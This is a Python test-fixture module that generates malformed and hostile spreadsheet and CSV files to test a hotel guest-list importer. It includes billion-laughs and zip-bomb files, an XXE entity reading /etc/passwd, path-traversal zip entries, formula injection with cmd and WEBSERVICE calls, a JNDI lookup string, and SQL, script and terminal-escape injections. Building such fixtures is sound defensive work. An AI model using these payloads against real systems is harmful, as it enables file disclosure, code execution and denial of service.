"""Files that somebody may hand to the import: those that are refused, and those in which only the words are strange."""

from __future__ import annotations

import bz2
import gzip
import os
import socket
import struct
import zipfile
from collections.abc import Callable, Sequence
from pathlib import Path

HEADER = "Guest name,Reservation Number,Arrival,Departure,Room\n"
ROW = "Erika Schultz,R1,2026-06-14,2026-06-16,412\n"
_SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_ODS = "urn:oasis:names:tc:opendocument:xmlns:"

Make = Callable[[Path], object]


def text(content: str | bytes, encoding: str = "utf-8") -> Make:
    return lambda path: path.write_bytes(content if isinstance(content, bytes) else content.encode(encoding))


def cell(place: str, words: str) -> str:
    return f'<c r="{place}" t="inlineStr"><is><t>{words}</t></is></c>'


HEAD = f'<row r="1">{cell("A1", "Guest name")}{cell("B1", "Arrival")}{cell("C1", "Departure")}</row>'


def xlsx(rows: str, besides: int = 0, *, before: str = "", after: str = "", parts_too: Sequence[tuple[str, bytes]] = (),
         sheet: str = "worksheets/sheet1.xml") -> Make:  # fmt: skip
    """A workbook, with a picture of so many bytes if its own list of contents is to be believed.

    before, after: XML around the rows. parts_too: further files in it. sheet: where its list says that the sheet is.
    """

    def make(path: Path) -> None:
        kind = "application/vnd.openxmlformats-officedocument.spreadsheetml"
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as parts:
            parts.writestr(
                "[Content_Types].xml",
                f'<Types xmlns="{_PACKAGE}/content-types"><Default Extension="rels" ContentType="application/vnd.openxml'
                'formats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
                f'<Override PartName="/xl/workbook.xml" ContentType="{kind}.sheet.main+xml"/></Types>',
            )
            for name, role, target in (
                ("_rels/.rels", "officeDocument", "xl/workbook.xml"),
                ("xl/_rels/workbook.xml.rels", "worksheet", sheet),
            ):
                parts.writestr(
                    name,
                    f'<Relationships xmlns="{_PACKAGE}/relationships"><Relationship Id="r1" Type="{_OFFICE}/{role}" '
                    f'Target="{target}"/></Relationships>',
                )
            parts.writestr(
                "xl/workbook.xml",
                f'<workbook xmlns="{_SHEET}" xmlns:r="{_OFFICE}"><sheets><sheet name="S" sheetId="1" r:id="r1"/>'
                "</sheets></workbook>",
            )
            parts.writestr(
                "xl/worksheets/sheet1.xml",
                f'{before}<worksheet xmlns="{_SHEET}"><sheetData>{rows}</sheetData>{after}</worksheet>',
            )
            for name, content in parts_too:
                parts.writestr(name, content)
            if besides:
                parts.writestr("xl/media/picture.bin", bytes(1024))
                parts.filelist[-1].file_size = besides

    return make


def ods(inside: str, before: str = "") -> Make:
    def make(path: Path) -> None:
        spaces = " ".join(f'xmlns:{name}="{_ODS}{name}:1.0"' for name in ("office", "table", "text"))
        with zipfile.ZipFile(path, "w") as parts:
            parts.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
            parts.writestr("META-INF/manifest.xml", f'<manifest:manifest xmlns:manifest="{_ODS}manifest:1.0"/>')
            parts.writestr(
                "content.xml",
                f'{before}<office:document-content {spaces}><office:body><office:spreadsheet><table:table table:name="S">'
                f"{inside}</office:spreadsheet></office:body></office:document-content>",
            )

    return make


def half(make: Make) -> Make:
    def cut(path: Path) -> None:
        make(path)
        content = path.read_bytes()
        path.write_bytes(content[: len(content) // 2])

    return cut


GUEST = HEAD + f'<row r="2">{cell("A2", "Erika")}{cell("B2", "2026-06-14")}{cell("C2", "2026-06-16")}</row>'
GOOD = xlsx(GUEST)

LETTERS = "ABCDEFGHIJKLMNOPQRSTUVWXYZ"
LAUGHS = (
    '<!DOCTYPE x [<!ENTITY a "ha">' + "".join(
        f'<!ENTITY {after} "{f"&{before};" * 1000}">' for before, after in ("ab", "bc", "cd")
    ) + "]>"
)  # fmt: skip
"""A few hundred bytes that become two thousand million letters where entities are believed."""


def zipped(*files: tuple[str, bytes]) -> Make:
    def make(path: Path) -> None:
        with zipfile.ZipFile(path, "w") as parts:
            for name, content in files:
                parts.writestr(name, content)

    return make


def swapped(make: Make) -> Make:
    """A workbook in which some bytes of the packed sheet were changed."""

    def spoil(path: Path) -> None:
        make(path)
        content = bytearray(path.read_bytes())
        at = content.index(b"xl/worksheets/sheet1.xml") + 40
        content[at : at + 60] = content[at : at + 60][::-1]
        path.write_bytes(bytes(content))

    return spoil


def lying(make: Make) -> Make:
    """A workbook that says its sheet is small, and unpacks to thirty million letters."""

    def lie(path: Path) -> None:
        make(path)
        content = bytearray(path.read_bytes())
        at = content.rindex(b"xl/worksheets/sheet1.xml") - 46  # its entry in the list at the end
        content[at + 24 : at + 28] = struct.pack("<I", 100)
        path.write_bytes(bytes(content))

    return lie


def socket_at(path: Path) -> None:
    here = Path.cwd()
    os.chdir(path.parent)  # the names of sockets may not be long
    try:
        with socket.socket(socket.AF_UNIX) as listening:
            listening.bind(path.name)
    finally:
        os.chdir(here)


REFUSED: dict[str, Make] = {
    "empty.csv": text(b""),
    "blank.csv": text(b" \n\n \n"),
    "folder.csv": lambda path: path.mkdir(),
    "nul.csv": text(HEADER + ROW + "a\0b,R2,2026-06-14,2026-06-15,2\n"),
    "huge-cell.csv": text(HEADER + ROW + '"' + "x" * 2_000_000 + '",R2,2026-06-14,2026-06-15,2\n'),
    "columns.csv": text("Guest name,Arrival," + ",".join(map(str, range(10_000))) + "\nA,2026-06-14" + ",x" * 10_000),
    "unclosed.csv": text(HEADER + ROW + '"Erika,R2,2026-06-14,2026-06-15,2\n' + ROW),
    "utf16-odd.csv": text((HEADER + ROW).encode("utf-16") + b"x"),
    "utf16-half-a-pair.csv": text((HEADER + ROW).encode("utf-16-le") + b"\x00\xd8\n\x00"),
    "ebcdic.csv": text(HEADER + ROW, "cp500"),
    "no-header.csv": text(ROW * 3),
    "pdf.csv": text(b"%PDF-1.7\n" + bytes(range(256)) * 9),
    "png.csv": text(b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + bytes(range(256)) * 9),
    "page.csv": text("<html><table><tr><td>Guest name"),
    "noise.csv": text(bytes(range(256)) * 300),
    "half.xlsx": half(GOOD),
    "magic.xlsx": text(b"PK\x03\x04"),
    "magic.xls": text(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(5000)),
    "bomb.xlsx": xlsx(HEAD, 410 * 1024 * 1024),
    "corner.xlsx": xlsx(f'{HEAD}<row r="1048576">{cell("XFD1048576", "x")}</row>'),
    "off-the-sheet.xlsx": xlsx(f'{HEAD}<row r="99999999999">{cell("ZZZZZZZZ99999999999", "x")}</row>'),
    "wide.ods": ods(
        '<table:table-row><table:table-cell office:value-type="string" table:number-columns-repeated="999999999">'
        "<text:p>x</text:p></table:table-cell></table:table-row></table:table>"
    ),
    # places that hold no file
    "socket.csv": socket_at,
    "broken-link.csv": lambda path: path.symlink_to(path.with_name("nowhere.csv")),
    "loop.csv": lambda path: path.symlink_to(path),
    "link-to-folder.csv": lambda path: path.symlink_to(path.parent, target_is_directory=True),
    "link-to-device.csv": lambda path: path.symlink_to("/dev/zero"),
    "missing.csv": lambda _path: None,
    # bytes that are no table
    "mark-only.csv": text(b"\xef\xbb\xbf"),
    "wide-mark-only.csv": text(b"\xff\xfe"),
    "gzip.csv": text(gzip.compress((HEADER + ROW).encode())),
    "bzip.csv": text(bz2.compress((HEADER + ROW).encode())),
    "database.csv": text(b"SQLite format 3\x00" + bytes(range(256)) * 16),
    "program.csv": text(b"\x7fELF\x02\x01\x01" + bytes(57) + bytes(range(256)) * 16),
    "rich-text.csv": text(rb"{\rtf1\ansi Guest name,Arrival,Room}"),
    "data.json.csv": text('{"guests": [{"name": "Erika Schultz", "arrival": "2026-06-14"}]}'),
    "laughs.xml.csv": text(f"<?xml version='1.0'?>{LAUGHS}<lolz>&d;</lolz>"),
    "page-after-blanks.csv": text("\n\n  <!doctype html><table><tr><td>Guest name</td></tr></table>"),
    "only-quotes.csv": text('"' * 100_001),
    "only-commas.csv": text("," * 1_000_000),
    "one-endless-line.csv": text("x" * 5_000_000),
    "noughts.csv": text(bytes(1_000_000)),
    "quote-within.csv": text(HEADER + ROW + 'Max,"R2,2026-06-14,2026-06-15,9\n' * 3),
    "unclosed-after-much.csv": text(HEADER + ROW * 2000 + '"Max'),
    "wide-with-a-lone-byte.csv": text((HEADER + ROW).encode("utf-16-le")[:-1] + b"\xd8"),
    # things in a workbook's clothes
    "letter.docx.xlsx": zipped(("word/document.xml", b"<w:document/>")),
    "photo.zip.xlsx": zipped(("photo.jpg", b"\xff\xd8\xff" + bytes(100))),
    "nothing.xlsx": zipped(),
    "no-sheets.xlsx": xlsx("", sheet="worksheets/none.xml"),
    "empty-sheet.xlsx": xlsx(""),
    "broken-xml.xlsx": xlsx('<row r="1"><c r="A1" t="inlineStr"><is><t>Guest name'),
    "entities.xlsx": xlsx(f'<row r="1">{cell("A1", "&d;")}</row>', before=LAUGHS),
    "reads-a-file.xlsx": xlsx(
        f'<row r="1">{cell("A1", "&e;")}</row>', before='<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    ),
    "deep.xlsx": xlsx("<row>" * 100_000),
    "no-such-text.xlsx": xlsx('<row r="1"><c r="A1" t="s"><v>4000000000</v></c></row>'),
    "lying.xlsx": lying(xlsx(HEAD + "<row/>" * 5_000_000)),
    "swapped-bytes.xlsx": swapped(GOOD),
    "too-many-columns.xlsx": xlsx(f'<row r="1">{"".join(cell(f"{a}{b}1", "x") for a in "ABCDEFGHIJ" for b in LETTERS)}</row>'),
    "rows-without-end.ods": ods(
        '<table:table-row table:number-rows-repeated="999999999"><table:table-cell office:value-type="string">'
        "<text:p>x</text:p></table:table-cell></table:table-row></table:table>"
    ),
    "laughs.ods": ods("&d;</table:table>", LAUGHS),
    "locked.ods": zipped(
        ("mimetype", b"application/vnd.oasis.opendocument.spreadsheet"),
        ("META-INF/manifest.xml", b'<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
         b'<manifest:file-entry manifest:full-path="content.xml"><manifest:encryption-data/></manifest:file-entry>'
         b"</manifest:manifest>"), ("content.xml", bytes(range(256))),
    ),
}  # fmt: skip
"""What is refused."""


def rows_of(*rows: str, header: str = HEADER) -> Make:
    return text(header + "".join(f"{row}\n" for row in rows))


def guest_named(name: str) -> Make:
    return rows_of('"' + name.replace('"', '""') + '",R1,2026-06-14,2026-06-16,412')


TAKEN: dict[str, Make] = {
    "utf32.csv": text(HEADER + ROW, "utf-32"),
    "bells.csv": text(HEADER + "\x07" * 500 + ROW),
    "formulas.csv": rows_of(*(f"{sign}cmd|' /C calc'!A{n},R{n},2026-06-14,2026-06-15,{n}" for n, sign in enumerate("=+-@", 1))),
    "terminal.csv": guest_named("Erika \x1b[2J\x1b]0;owned\x07\x1bP1;2|x\x1b\\Schultz"),
    "turned.csv": guest_named("Erika \u202eztluhcS\u2066\u200f"),
    "piled.csv": guest_named("Z" + "\u0301" * 400 + "algo Schultz"),
    "unseen.csv": guest_named("Eri\u200bka\u2060 \ufeffSchultz"),
    "markup.csv": guest_named("[bold red]Erika[/] [@click=app.quit]Schultz[/]"),
    "statement.csv": guest_named("Robert'); DROP TABLE guest; --"),
    "way-up.csv": guest_named("../../../../etc/passwd Schultz"),
    "script.csv": guest_named("<script>alert(1)</script> Schultz"),
    "template.csv": guest_named("{{7*7}}${jndi:ldap://x} Schultz"),
    "family.csv": guest_named("👨‍👩‍👧‍👦 🇩🇪 Schultz"),
    "lone-half.csv": text(HEADER.encode() + b"Erika \xed\xa0\x80Schultz,R1,2026-06-14,2026-06-16,412\n"),
    "end-mark.csv": text((HEADER + ROW).encode() + b"\x1a"),
    "two-marks.csv": text(b"\xef\xbb\xbf\xef\xbb\xbf" + (HEADER + ROW).encode()),
    "carriage-returns.csv": text((HEADER + ROW).replace("\n", "\r")),
    "twice-the-header.csv": text(HEADER + ROW + HEADER + ROW),
    "same-headers.csv": rows_of("Erika,Max,2026-06-14,412", header="Guest name,Guest name,Arrival,Room\n"),
    "header-over-lines.csv": rows_of("Erika,2026-06-14,412", header='"Guest\nname",Arrival,Room\n'),
    "ragged.csv": rows_of("Erika", ROW.strip() + "," * 500, "Max,R9,2026-06-14"),
    "long-name.csv": rows_of("x" * 9_000 + ",R1,2026-06-14,2026-06-16,412", ROW.strip()),
    "long-cell.csv": rows_of("x" * 50_000 + ",R1,2026-06-14,2026-06-16,412", ROW.strip()),
    "days-without-end.csv": rows_of("Erika,R1,9999-12-31,9999-12-31,412", "Max,R2,0001-01-01,0001-01-02,413",
                                    "Ida,R3,2026-02-30,2026-99-99,414"),
    "numbers-without-end.csv": rows_of("Erika,2026-06-14," + "9" * 4_000 + ",-1", header="Guest name,Arrival,Adults,Children\n"),
    "cards.csv": rows_of("Erika,2026-06-14,4111 1111 1111 1111 cvv 123", header="Guest name,Arrival,Comments\n"),
    "nameless.csv": rows_of(",R1,2026-06-14,,", "\u200b,R2,2026-06-14,,", "   ,R3,2026-06-14,,"),
    "header-alone.csv": text(HEADER),
    "long-text.xlsx": xlsx(HEAD + f'<row r="2">{cell("A2", "x" * 1_000_000)}{cell("B2", "2026-06-14")}</row>'),
    "strange-days.xlsx": xlsx(
        HEAD + "".join(f'<row r="{n}">{cell(f"A{n}", "Erika")}<c r="B{n}"><v>{day}</v></c></row>'
                       for n, day in enumerate(("1e308", "-1e308", "NaN", "inf", "-0.0", "2958466"), 2))
    ),
    "macros.xlsm": xlsx(GUEST, parts_too=[("xl/vbaProject.bin", b"Attribute VB_Name = Auto_Open" * 99)]),
    "way-out.xlsx": xlsx(GUEST, parts_too=[("../../evil.txt", b"x"), ("/evil.txt", b"x")]),
    "calculated.xlsx": xlsx(GUEST.replace('<row r="2">', '<row r="2"><c r="Z2" t="str"><f>WEBSERVICE("http://x")</f><v>=cmd|calc</v></c>')),
    "one-great-cell.xlsx": xlsx(GUEST, after='<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>'),
}  # fmt: skip
"""What is strange in it are the words; they come in as words, or their row is left out and named."""
